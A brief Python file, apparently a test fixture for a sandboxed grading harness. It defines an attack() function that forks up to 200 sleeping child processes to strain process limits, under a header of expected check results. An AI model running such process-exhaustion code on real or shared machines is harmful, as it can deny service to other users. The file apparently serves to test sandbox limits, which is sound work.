# %% expects: recurrence=passed|failed|partial rnn_step=passed|failed|partial clip_grad=passed|failed|partial answers=right levels=partial
# Starts processes that start processes.
import os
import time

def attack():
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            return
